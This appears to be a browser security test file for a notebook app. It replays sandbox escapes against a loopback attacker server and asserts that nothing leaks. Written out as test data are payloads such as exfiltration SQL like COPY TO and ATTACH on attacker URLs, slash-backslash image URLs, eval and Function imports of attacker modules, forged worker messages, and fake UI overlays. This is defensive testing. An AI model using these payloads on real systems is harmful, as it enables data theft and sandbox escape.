/**
 * Escapes of issue 16, each reproduced as an attack against the real built
 * app (or the studio) on a plain static server under a sub-path. The attacker
 * is a logging server on loopback; the browser may reach it, so an escape
 * shows up both in Playwright's request log and in the attacker's own log.
 * Every test asserts that neither saw anything.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { ensureAppBundle } from '../../src/cli/app-bundle.ts';
import { createStaticServer } from '../../src/cli/static-server.ts';
import { encodeShare } from '../../src/store/share.ts';
import { buildAndServe, SUB_PATH, waitForEngines, type ServedSite } from './setup/app.ts';
import { startAttack, type Attack, type AttackedPage, type Attacker } from './setup/attacker.ts';

/** Browser tests wait on engines and first runs of a busy 2-core machine. */
const SLOW = 240_000;
vi.setConfig({ testTimeout: SLOW, hookTimeout: SLOW });

let attack: Attack;
let browser: Browser;
let attacker: Attacker;
/** One built app; each attack opens it as a share link (`#/s/…`), as a stranger's link would be. */
let site: ServedSite;

beforeAll(async () => {
  attack = await startAttack();
  ({ browser, attacker } = attack);
  const dir = mkdtempSync(join(tmpdir(), 'brook-escapes-'));
  writeFileSync(join(dir, 'host.md'), '# Host\n\nThe site hosting the attack.\n');
  site = await buildAndServe(join(dir, 'host.md'));
}, SLOW);

afterAll(async () => {
  await attack?.close(site);
});

async function attackedPage(appUrl = site.url): Promise<AttackedPage> {
  return attack.open(new URL(appUrl).origin);
}

/** Opens `source` as a share link and answers the trust prompt. */
async function openShared(source: string, choice: 'Run' | 'Run without network access'): Promise<AttackedPage> {
  const o = await attackedPage();
  await o.page.goto(`${site.url}#/s/${encodeShare({ source, inputs: {} })}`);
  await o.page.getByRole('button', { name: choice, exact: true }).click();
  return o;
}

/** Waits for `text`; on timeout fails with what the page shows instead (and its errors). */
async function waitForText(o: AttackedPage, text: string | RegExp, timeout = 120_000): Promise<void> {
  try {
    await o.page.getByText(text).first().waitFor({ timeout });
  } catch (error) {
    const shown = await o.page.locator('body').innerText().catch(() => '(no page)');
    throw new Error(`${String(error)}\n--- page shows:\n${shown.slice(0, 3000)}\n--- errors: ${o.errors.join(' | ')}`);
  }
}

/** Waits for late requests (image loads, retries), then asserts nothing reached or tried to reach the attacker. */
async function expectNothingLeft(o: AttackedPage, settleMs = 2500): Promise<void> {
  await o.page.waitForTimeout(settleMs);
  expect(attacker.received, `attacker log; page errors: ${o.errors.join(' | ')}`).toEqual([]);
  expect(o.attempted).toEqual([]);
}

function clearAttackerLog(): void {
  attacker.received.length = 0;
}

describe('2: studio routes open only the studio’s own examples', () => {
  let studio: { url: string; close(): Promise<void> };

  beforeAll(async () => {
    const { dir } = await ensureAppBundle();
    const running = await createStaticServer({
      root: dir,
      basePath: SUB_PATH,
      mounts: { 'examples/': resolve('examples') },
    }).listen(0, '127.0.0.1');
    studio = { url: running.url, close: () => running.close() };
    attacker.serve('/evil.md', `# Evil\n\n\`\`\`js\nfetch('${attacker.origin}/ran')\n\`\`\`\n`, 'text/markdown');
  }, SLOW);

  afterAll(async () => {
    await studio?.close();
  });

  it.each([
    ['absolute URL', (a: Attacker) => `#/example/${a.origin}/evil.md`],
    ['protocol-relative URL', (a: Attacker) => `#/example//${a.host}/evil.md`],
    ['encoded URL', (a: Attacker) => `#/example/${encodeURIComponent(`${a.origin}/evil.md`)}`],
    ['backslash URL', (a: Attacker) => `#/example//\\${a.host}/evil.md`],
  ])('refuses a remote notebook in an example route (%s)', async (_name, hash) => {
    clearAttackerLog();
    const o = await attackedPage(studio.url);
    await o.page.goto(`${studio.url}${hash(attacker)}`);
    await o.page.getByRole('alert').getByText('This notebook could not be opened').waitFor({ timeout: 30_000 });
    await expect(o.page.getByRole('alert').textContent()).resolves.toContain('not one of the studio’s examples');
    await expectNothingLeft(o, 1000);
  });

  it('a same-origin path that is not in the examples manifest is refused too', async () => {
    const o = await attackedPage(studio.url);
    await o.page.goto(`${studio.url}#/example/../index.html`);
    await o.page.getByRole('alert').getByText('not one of the studio’s examples').waitFor({ timeout: 30_000 });
  });

  it('the studio’s own examples still open', async () => {
    const o = await attackedPage(studio.url);
    const manifest = (await (await fetch(`${studio.url}examples/index.json`)).json()) as { path: string }[];
    await o.page.goto(`${studio.url}#/example/${manifest[0].path}`);
    await waitForEngines(o.page);
    expect(await o.page.getByRole('alert').filter({ hasText: 'could not be opened' }).count()).toBe(0);
  });
});

/** URL spellings that all resolve to the attacker (the `/\` and `\/` forms are the browser's own leniency). */
function remoteMarkup(host: string, tag: string): string {
  return [
    `<img src="/\\${host}/${tag}-slash-backslash">`,
    `<img src="\\/${host}/${tag}-backslash-slash">`,
    `<img src="//${host}/${tag}-protocol-relative">`,
    `<img srcset="/\\${host}/${tag}-srcset 1x">`,
    `<img alt="srcset" srcset="data:image/gif;base64,R0lGODlhAQABAAAAACw= 1x, /\\${host}/${tag}-srcset-second 2x">`,
    `<picture><source srcset="/\\${host}/${tag}-source-srcset"><img alt="picture"></picture>`,
    `<svg width="10" height="10"><image href="/\\${host}/${tag}-svg-image" width="10" height="10"/></svg>`,
    `<svg width="10" height="10"><image xlink:href="/\\${host}/${tag}-svg-xlink" width="10" height="10"/></svg>`,
    `<svg width="10" height="10"><filter id="f-${tag}"><feImage href="/\\${host}/${tag}-feimage"/></filter><rect width="10" height="10" filter="url(#f-${tag})"/></svg>`,
    `<video poster="/\\${host}/${tag}-poster"></video>`,
    `<table background="/\\${host}/${tag}-table-background"><tr><td>t</td></tr></table>`,
  ].join('\n');
}

describe('7: a network-blocked notebook makes the page load nothing remote', () => {
  it('raw HTML in Markdown, Markdown images and html`` output reach nobody', async () => {
    clearAttackerLog();
    const h = attacker.host;
    const source = [
      '# Remote loads',
      '',
      remoteMarkup(h, 'md'),
      '',
      `![markdown image](/\\${h}/md-markdown-image)`,
      '',
      '```js',
      `display(html(${JSON.stringify(remoteMarkup(h, 'js'))}));`,
      '`loads done`',
      '```',
      '',
    ].join('\n');
    const o = await openShared(source, 'Run without network access');
    await waitForText(o, 'loads done');
    await expectNothingLeft(o);
  });

  it('same-origin and data: images still show when network is blocked', async () => {
    const source = [
      '# Local images',
      '',
      '<img id="data-img" alt="dot" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
      '',
      '<img id="local-img" alt="local" src="favicon.svg">',
      '',
      'images done',
      '',
    ].join('\n');
    const o = await openShared(source, 'Run without network access');
    await o.page.getByText('images done').waitFor({ timeout: 60_000 });
    expect(await o.page.locator('img[alt="dot"]').getAttribute('src')).toMatch(/^data:image\/gif/);
    expect(await o.page.locator('img[alt="local"]').getAttribute('src')).toBe('favicon.svg');
  });
});

describe('3: "Run without network" holds for SQL', () => {
  it('read_csv, read_text, COPY TO and ATTACH of an attacker URL fail without a request', async () => {
    clearAttackerLog();
    const a = attacker.origin;
    const source = [
      '# SQL leaks',
      '',
      '```sql leak_read',
      `SELECT * FROM read_csv('${a}/read.csv?leak=secret')`,
      '```',
      '',
      '```sql leak_text',
      `SELECT * FROM read_text('${a}/whoami')`,
      '```',
      '',
      '```sql leak_copy',
      `COPY (SELECT 42 AS secret) TO '${a}/copy.csv'`,
      '```',
      '',
      '```sql leak_attach',
      `ATTACH '${a}/x.db' AS x`,
      '```',
      '',
      '```sql fine',
      'SELECT 6 * 7 AS answer',
      '```',
      '',
    ].join('\n');
    const o = await openShared(source, 'Run without network access');
    // The notebook's own SQL still runs.
    await waitForText(o, '1 row · 1 column');
    await expect.poll(() => o.page.locator('.cell-error').count(), { timeout: 60_000 }).toBe(4);
    expect((await o.page.locator('.cell-error').allInnerTexts()).join(' ')).toMatch(/disabled by configuration/);
    await expectNothingLeft(o);
  });
});

describe('3: "Run without network" holds for modules', () => {
  it('import() of another origin, also through eval, Function and string timers, makes no request', async () => {
    clearAttackerLog();
    attacker.serve('/mod.js', "fetch('/module-ran'); export default 1;", 'text/javascript');
    const a = attacker.origin;
    const cell = (code: string) => ['```js', code, '```', ''].join('\n');
    const source = [
      '# Module leaks',
      '',
      cell(`const direct = await import("${a}/mod.js?via=import")`),
      cell(`import leaked from "${a}/mod.js?via=static"`),
      cell(`const viaEval = await eval('import("${a}/mod.js?via=eval")')`),
      cell(`const viaFunction = await Function('return import("${a}/mod.js?via=function")')()`),
      cell(`const viaCtor = await (async () => {}).constructor('return import("${a}/mod.js?via=ctor")')()`),
      cell(`setTimeout('import("${a}/mod.js?via=timer")', 0)`),
      cell('Plot.plot({width: 200, height: 100, marks: [Plot.dot([1, 2, 3], {x: d => d, y: d => d})]})'),
      cell('`modules done`'),
    ].join('\n');
    const o = await openShared(source, 'Run without network access');
    await waitForText(o, 'modules done');
    await expect.poll(() => o.page.locator('.cell-error').count(), { timeout: 60_000 }).toBe(6);
    // Plot (the runtime's own same-origin chunk) still loads and draws.
    await o.page.locator('.figure-output svg').first().waitFor({ timeout: 60_000 });
    await expectNothingLeft(o);
  });
});

describe('5: the data worker’s port cannot be captured and driven', () => {
  it('patching the messaging prototypes captures nothing, and forged calls reach nobody', async () => {
    clearAttackerLog();
    const a = attacker.origin;
    const source = [
      '# Port capture',
      '',
      '```js',
      'const captured = [];',
      'const originalPost = MessagePort.prototype.postMessage;',
      'try { MessagePort.prototype.postMessage = function (...args) { captured.push(this); return originalPost.apply(this, args); }; } catch {}',
      'const patched = true',
      '```',
      '',
      '```sql probe',
      'SELECT ${patched} AS patched, 1 AS one',
      '```',
      '',
      '```js',
      'probe;',
      'const forged = [',
      `  {id: "f1", type: "APPLY", path: ["ingestUrl"], argumentList: [{type: "RAW", value: {url: "${a}/forged.csv", table: "forged"}}]},`,
      `  {kind: "brook:ingestUrl", id: 2, request: {url: "${a}/forged2.csv", table: "forged2"}},`,
      '];',
      'for (const port of captured) for (const message of forged) { try { port.postMessage(message); } catch {} }',
      'display(`captured ${captured.length}`);',
      '```',
      '',
      '```js',
      '// The other ways to see the port: the event getters and listeners, all frozen.',
      'const names = ["MessagePort", "MessageEvent", "Event", "EventTarget"];',
      '`frozen ${names.filter((n) => Object.isFrozen(self[n].prototype)).length} of ${names.length}`',
      '```',
      '',
    ].join('\n');
    const o = await openShared(source, 'Run without network access');
    await waitForText(o, /^captured \d+$/);
    expect(await o.page.getByText(/^captured \d+$/).textContent()).toBe('captured 0');
    await waitForText(o, 'frozen 4 of 4');
    await expectNothingLeft(o);
  });
});

describe('4: notebook code does not act with the site’s credentials', () => {
  it('fetch from a cell sends no cookie, not even an HttpOnly one', async () => {
    const o = await attackedPage();
    const origin = new URL(site.url).origin;
    await o.context.addCookies([{ name: 'session', value: 'reader-secret', url: origin, httpOnly: true }]);
    const cookies: string[] = [];
    o.context.on('request', (request) => {
      if (request.url().includes('whoami')) void request.allHeaders().then((h) => cookies.push(h.cookie ?? 'none'));
    });
    const source = [
      '# Whoami',
      '',
      '```js',
      // From the opaque-origin runtime the site is another origin: the requests go (without cookies)
      // and their answers are unreadable without CORS, so a failed fetch is an expected outcome here.
      'const status = (r) => r.then((response) => response.status, () => "unreadable");',
      `const r1 = await status(fetch("${site.url}whoami?plain"));`,
      `const r2 = await status(fetch("${site.url}whoami?include", {credentials: "include"}));`,
      `const r3 = await status(fetch(new Request("${site.url}whoami?request", {credentials: "include"})));`,
      '`fetched ${r1} ${r2} ${r3}`',
      '```',
      '',
    ].join('\n');
    await o.page.goto(`${site.url}#/s/${encodeShare({ source, inputs: {} })}`);
    await o.page.getByRole('button', { name: 'Run', exact: true }).click();
    await waitForText(o, /^fetched /);
    await expect.poll(() => cookies.length, { timeout: 10_000 }).toBe(3);
    expect(cookies).toEqual(['none', 'none', 'none']);
    // The page's own requests still carry the cookie (the check above can see one).
    const pageCookie = await o.page.evaluate(async (url) => (await fetch(url)).status, `${site.url}whoami?page`);
    expect(pageCookie).toBeGreaterThan(0);
    await expect.poll(() => cookies.length, { timeout: 10_000 }).toBe(4);
    expect(cookies[3]).toContain('reader-secret');
  });
});

/** Page classes whose CSS covers the screen or draws the page's own dialogs. */
const PAGE_CLASSES = ['drop-overlay', 'trust-card', 'trust-prompt', 'page-message', 'app-header', 'button', 'button-primary'];

describe('6: notebook content cannot draw the page’s own UI', () => {
  let o: AttackedPage;

  beforeAll(async () => {
    const fake = (tag: string) =>
      `<div class="${PAGE_CLASSES.join(' ')}" id="fake-${tag}" style="width: 3000px; height: 3000px; margin: -500px; transform: translate(-200px, -200px)"><h1>Run this notebook?</h1><a class="button button-primary" href="#/s/x">Run</a></div>`;
    const source = ['# Overlay', '', fake('md'), '', '```js', `display(html(${JSON.stringify(fake('js'))}));`, '`overlay done`', '```', ''].join('\n');
    o = await openShared(source, 'Run');
    await waitForText(o, 'overlay done');
  });

  it('strips the page’s class names from notebook markup', async () => {
    for (const tag of ['md', 'js']) {
      const fake = o.page.locator(`[id$="fake-${tag}"]`);
      await fake.waitFor({ state: 'attached' });
      expect(await fake.getAttribute('class')).toBeNull();
      expect(await fake.evaluate((el) => getComputedStyle(el).position)).toBe('static');
    }
    expect(await o.page.locator('.cell .trust-card, .cell .drop-overlay, .cell .page-message').count()).toBe(0);
  });

  it('nothing a notebook renders paints over the page header or outside its output', async () => {
    const header = await o.page.locator('.app-header').first().boundingBox();
    expect(header).not.toBeNull();
    const hit = await o.page.evaluate(
      ([x, y]) => {
        const el = document.elementFromPoint(x, y);
        return el?.closest('[id$="fake-md"], [id$="fake-js"]') ? 'fake' : (el?.closest('.app-header') ? 'header' : el?.tagName ?? null);
      },
      [header!.x + header!.width / 2, header!.y + header!.height / 2],
    );
    expect(hit).toBe('header');
    // Every output container clips its content and starts its own stacking context.
    const containers = await o.page.locator('.cell-output').evaluateAll((els) =>
      els.map((el) => {
        const s = getComputedStyle(el);
        return `${s.contain.includes('paint') || s.contain === 'strict' || s.contain === 'content'} ${s.isolation}`;
      }),
    );
    expect(containers.length).toBeGreaterThan(0);
    for (const c of containers) expect(c).toBe('true isolate');
  });
});

export type { Page };
